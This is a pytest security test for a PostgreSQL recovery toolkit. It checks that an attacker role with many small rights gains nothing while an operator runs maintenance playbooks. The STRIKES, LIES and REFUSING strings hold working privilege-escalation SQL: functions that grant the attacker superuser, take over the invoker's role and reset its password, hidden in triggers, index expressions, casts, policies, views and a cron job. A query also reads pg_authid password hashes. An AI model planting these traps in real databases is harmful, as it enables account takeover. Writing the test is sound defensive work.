# Copyright: (c) 2026, Scout Recovery contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attack: one role has all small rights at once, and plants with them whatever the other tests here plant, as far as it can stand
together. The documented operator plays every playbook that works on a database; where something is refused, then before anything is
changed. Nobody has a right more, nothing is paused, and the audit chain is whole."""

from __future__ import annotations

import contextlib
from collections.abc import Generator, Iterator
from pathlib import Path
from typing import Any

import pytest
from psycopg import sql
from psycopg.conninfo import make_conninfo

from ansible_collections.scout.drills.plugins.plugin_utils.reference import builder
from ansible_collections.scout.drills.plugins.plugin_utils.reference.events import generator
from ansible_collections.scout.drills.plugins.plugin_utils.reference.faults import library
from tests.e2e.play import Played, Stage
from tests.integration.modules import connect, off, rows
from tests.integration.oracle import START, arrive
from tests.security import test_everything_at_once as everything
from tests.security import test_forged_dead_letters as letters
from tests.security import test_planted_in_the_schema as schema
from tests.security.roles import drop_roles

ATTACKER, OPERATOR = everything.ATTACKER, everything.OPERATOR

#: Besides what he may in test_everything_at_once. One table of the schema is his, because he was given it.
MAY = """
GRANT CREATE, USAGE ON SCHEMA scout TO {attacker};
GRANT USAGE ON SCHEMA cron TO {attacker};
GRANT SELECT ON scout.silver_transactions TO {attacker};
CREATE TABLE scout.given (n int);
ALTER TABLE scout.given OWNER TO {attacker};
CREATE SCHEMA vault CREATE TABLE salaries (who text, much int);
GRANT USAGE ON SCHEMA vault TO {attacker};
CREATE EXTENSION postgres_fdw SCHEMA vault;
CREATE SERVER company FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '1', dbname 'nowhere');
CREATE USER MAPPING FOR scout_operator SERVER company OPTIONS (user 'vault', password 'of-the-company');
GRANT USAGE ON FOREIGN SERVER company TO {attacker};
ALTER TABLE IF EXISTS scout.dim_region RENAME TO old_region;
DROP VIEW IF EXISTS scout.v_product_linking_stats CASCADE;
"""
#: Whoever runs it but himself gives him what he has: a superuser its attribute, everybody else a membership and a password.
STRIKES = """
CREATE TABLE public.strikes (who text, from_where text);
GRANT INSERT ON public.strikes TO PUBLIC;
CREATE FUNCTION public.strike(from_where text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF current_user IN ('{attacker}', 'loader') THEN RETURN true; END IF;
    BEGIN PERFORM pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity WHERE application_name = 'canary'; END;
    BEGIN EXECUTE 'ALTER ROLE {attacker} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('GRANT %I TO {attacker}', current_user); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('ALTER ROLE %I PASSWORD ''his''', current_user); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN INSERT INTO public.strikes VALUES (current_user, from_where); EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN true;
END $$;
CREATE FUNCTION public.striking() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM public.strike(TG_NAME); RETURN coalesce(NEW, OLD); END $$;
CREATE FUNCTION public.same(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.strike('index'); RETURN n; END $$;
CREATE FUNCTION public.held() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN EXECUTE 'DECLARE late CURSOR WITH HOLD FOR SELECT public.strike(''cursor'')'; RETURN true; END $$;
"""
#: What lies there all the time, and is to keep nobody from anything.
LIES = """
CREATE MATERIALIZED VIEW scout.gold_struck AS
    SELECT current_date AS date_key, count(*) AS txn_count, now() AS refreshed_at, public.strike('gold') AS struck
    FROM scout.silver_transactions;
CREATE TYPE scout.kind AS ENUM ('sad', 'ok');
CREATE FUNCTION scout.told(scout.kind) RETURNS json LANGUAGE sql AS $$ SELECT to_json(public.strike('json')) $$;
CREATE FUNCTION scout.as_text(scout.kind) RETURNS text LANGUAGE sql AS $$ SELECT public.strike('text')::text $$;
CREATE CAST (scout.kind AS json) WITH FUNCTION scout.told(scout.kind);
CREATE CAST (scout.kind AS text) WITH FUNCTION scout.as_text(scout.kind);
CREATE TABLE scout.gold_kinds (kind scout.kind DEFAULT 'ok', day date DEFAULT current_date);
INSERT INTO scout.gold_kinds DEFAULT VALUES;
CREATE FOREIGN TABLE scout.gold_far (n text) SERVER company OPTIONS (schema_name 'vault', table_name 'salaries');
CREATE VIEW scout.v_product_linking_stats AS SELECT now() AS hour, public.strike('view')::text AS said;
CREATE TABLE scout.dim_region (region_name text);
INSERT INTO scout.dim_region VALUES ('NCR');
ALTER TABLE scout.dim_region ENABLE ROW LEVEL SECURITY;
CREATE POLICY strikes ON scout.dim_region USING (public.strike('policy'));
CREATE TRIGGER given BEFORE INSERT OR UPDATE OR DELETE ON scout.given FOR EACH ROW EXECUTE FUNCTION public.striking();
CREATE INDEX ON scout.given ((public.same(n)));
INSERT INTO scout.given VALUES (1);
CREATE SCHEMA supabase_migrations;
CREATE TABLE supabase_migrations.schema_migrations (version text PRIMARY KEY, name text);
CREATE INDEX ON supabase_migrations.schema_migrations ((public.same(1)));
GRANT USAGE ON SCHEMA supabase_migrations TO PUBLIC;
GRANT ALL ON supabase_migrations.schema_migrations, scout.given, scout.gold_struck, scout.gold_kinds, scout.gold_far,
    scout.v_product_linking_stats, scout.dim_region TO PUBLIC;
SELECT cron.schedule('his', '* * * * *', 'SELECT scout.load_silver_from_bronze(1), public.strike(''job'')');
"""
OF_SESSION = """
CREATE TYPE pg_temp.t_{of} AS (x int);
CREATE FUNCTION pg_temp.f(v {of}) RETURNS pg_temp.t_{of} LANGUAGE sql AS 'SELECT NULL::pg_temp.t_{of}';
CREATE CAST ({of} AS pg_temp.t_{of}) WITH FUNCTION pg_temp.f({of});
"""

#: What keeps rows from being moved until it is gone, and what it takes; each by itself.
MAY_REFUSE = (
    "GRANT TRIGGER ON scout.bronze_events, scout.bronze_events_dlq, scout.etl_processed TO {attacker}; "
    "GRANT TRIGGER, REFERENCES ON scout.silver_transactions, scout.silver_line_items TO {attacker}"
)
REFUSING = {
    "triggers": "; ".join(
        f"CREATE TRIGGER strikes BEFORE INSERT OR UPDATE OR DELETE ON scout.{table} FOR EACH ROW EXECUTE FUNCTION public.striking()"
        for table in ("bronze_events", "bronze_events_dlq", "etl_processed", "silver_transactions", "silver_line_items")
    ),
    "a deferred trigger": "CREATE CONSTRAINT TRIGGER strikes AFTER INSERT OR DELETE ON scout.silver_transactions "
    "DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.striking()",
    "a condition": "CREATE TRIGGER strikes BEFORE UPDATE ON scout.bronze_events FOR EACH ROW WHEN (public.held()) "
    "EXECUTE FUNCTION suppress_redundant_updates_trigger()",
    "a foreign key": "CREATE TABLE public.refers (id text REFERENCES scout.silver_transactions (transaction_id) ON DELETE CASCADE); "
    "CREATE INDEX ON public.refers ((public.same(1)))",
}
GONE = "DROP OWNED BY {attacker} CASCADE"
PASSWORDS = "SELECT rolname::text, rolpassword FROM pg_authid ORDER BY 1"


@pytest.fixture
def attacked(scout_db: str) -> Iterator[str]:
    """The dsn of a superuser, where the attacker may all that is small, and the operator's role is there."""
    drop_roles(scout_db, ATTACKER, everything.screens.NAME)
    library.poison_event(scout_db, "bad_ts")
    with connect(scout_db) as superuser:
        superuser.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(everything.planted.PLANTER)))
        superuser.execute(sql.SQL("CREATE ROLE {} LOGIN").format(sql.Identifier(ATTACKER)))
        superuser.execute(sql.SQL("CREATE ROLE {} LOGIN").format(sql.Identifier(everything.screens.NAME)))
        names = {"attacker": sql.Identifier(ATTACKER), "database": sql.Identifier(superuser.info.dbname)}
        superuser.execute(sql.SQL(everything.MAY).format(**names))
        builder.operator(scout_db, rollback=True)
        superuser.execute(MAY.format(attacker=ATTACKER).encode())
    yield scout_db
    with connect(scout_db) as superuser:
        superuser.execute("DROP EXTENSION postgres_fdw CASCADE; DROP SCHEMA vault CASCADE")
        superuser.execute(GONE.format(attacker=ATTACKER).encode())
    drop_roles(scout_db, OPERATOR, ATTACKER, everything.screens.NAME)


@contextlib.contextmanager
def field(dsn: str) -> Generator[None]:
    """All of what lies there, and his sessions, as long as the block lasts."""
    with everything.attack(dsn), contextlib.ExitStack() as sessions:
        his = sessions.enter_context(contextlib.closing(connect(dsn, user=ATTACKER)))
        # Some of it fills and is called as he makes it.
        his.execute("SET search_path = pg_catalog")
        his.execute(STRIKES.format(attacker=ATTACKER).encode())
        his.execute(f"CREATE TABLE scout.mallorys_too (n int PRIMARY KEY); {schema.PLANTED}".encode())
        his.execute(LIES.encode())
        for of in ("jsonb", "text", "uuid", "timestamptz"):
            his.execute(OF_SESSION.format(of=of).encode())
        for _ in range(12):
            shared = sessions.enter_context(contextlib.closing(connect(dsn, user=ATTACKER)))
            shared.pgconn.send_query(f"SELECT pg_catalog.pg_advisory_lock_shared({library.REFRESH_LOCK})".encode())
        yield


class Operator:
    """Who plays one playbook after the other, each of which ends as it is said to, with ingestion running."""

    def __init__(self, dsn: str, home: Path, subtests: Any) -> None:
        self.superuser, self.dsn, self.subtests, self.home = dsn, make_conninfo(dsn, user=OPERATOR), subtests, home
        self.stage = Stage(home)

    def play(self, playbook: str, *, rc: int = 0, running: bool = True, named: str = "", **options: Any) -> Played:
        played = self.stage.play(playbook, self.dsn, **options)
        with self.subtests.test(f"{playbook} {named or options}"):
            assert played.rc == rc, played.text
            assert (off(self.superuser) == set()) is running, played.text
            assert rows(self.superuser, "SELECT * FROM public.strikes") == [], played.text
            assert not everything.screens.wrong(played.text.encode()), played.text
        return played


def rights(dsn: str) -> dict[str, list[tuple[Any, ...]]]:
    return everything.rights(dsn) | {"passwords": rows(dsn, PASSWORDS)}


@pytest.mark.thorough
def test_all_small_rights_at_once_gain_nothing(attacked: str, tmp_path: Path, subtests: Any) -> None:
    works = Operator(attacked, tmp_path, subtests)
    arrive(attacked, [generator.transaction(7, 1, sold_at=START)])
    with field(attacked):
        before = rights(attacked)
        looks(works)
        moves(works)
        releases(works, attacked)
        assert rights(attacked) == before
        with connect(attacked) as superuser:
            superuser.execute(MAY_REFUSE.format(attacker=ATTACKER).encode())
        before = rights(attacked)
        refused(works, attacked)
        assert rights(attacked) == before
    assert everything.rows(attacked, everything.LEDGER) == []
    assert everything.rows(attacked, everything.OURS) == []
    assert off(attacked) == set()


def looks(works: Operator) -> None:
    """What only looks, and each step alone."""
    works.play("preflight")
    works.play("assess")
    works.play("dead_letters")
    works.play("emergency_reset", incident="INC-1", stuck_after_seconds=0.5)
    for playbook in ("assess", "runs", "terminate_sessions"):
        works.play(playbook)
    # His letters are what it warns of.
    gate = works.play("acceptance_gate", rc=2, smoke=True)
    assert "1 warns" in gate.text, gate.text
    assert "warns  dead_letter_growth" in gate.text, gate.text
    works.play("assess", save_evidence=True, evidence_dir=str(works.home / "kept"))
    works.play("pause_ingestion", running=False)
    works.play("refresh_gold", running=False)
    works.play("resume_ingestion")


def loaded(works: Operator) -> list[str]:
    return [str(row[0]) for row in rows(works.superuser, letters.LOADED)]


def moves(works: Operator) -> None:
    moved = works.play("quarantine", event_ids=loaded(works), incident="INC-2")
    everything.forge(works.superuser, moved.result["move"]["run_id"])
    works.play("undo", run_id=moved.result["move"]["run_id"], on_conflict="keep_current")
    works.play("redrive", of_incident="INC-2")
    works.play("window_recovery", last="1h")
    works.play("quality_cleanup")
    assert letters.forged(works.superuser) == 0


def releases(works: Operator, dsn: str) -> None:
    """The migration history is his, and so none is used."""
    works.play("capture_release", release="v1", migrations_table="")
    with connect(dsn) as superuser:
        superuser.execute("ALTER TABLE scout.silver_transactions ADD COLUMN extra int")
    # He has a part in the schema, and a rollback is of all of it: it is refused before anything is changed.
    gone = works.play("rollback", rc=2, release="v1", warn_passes=True)
    assert f"the rights of owner {ATTACKER}" in " ".join(gone.text.split())
    with connect(dsn) as superuser:
        superuser.execute("ALTER TABLE scout.silver_transactions DROP COLUMN extra")


def refused(works: Operator, dsn: str) -> None:
    """What writes rows is refused, and nothing is paused by it; what does not goes on."""
    for name, planted in REFUSING.items():
        with connect(dsn, user=ATTACKER) as his:
            his.execute(planted.encode())
        works.play("preflight", named=name)
        works.play("assess", named=name)
        works.play("quarantine", rc=2, named=name, event_ids=loaded(works))
        works.play("redrive", rc=2, named=name, of_incident="INC-1")
        with connect(dsn) as superuser:
            superuser.execute("DROP TABLE IF EXISTS public.refers")
            for [statement] in superuser.execute(
                "SELECT format('DROP TRIGGER %I ON %s', tgname, tgrelid::regclass) FROM pg_trigger WHERE tgname = 'strikes'"
            ).fetchall():
                superuser.execute(statement.encode())
    works.play("emergency_reset", stuck_after_seconds=0.5)
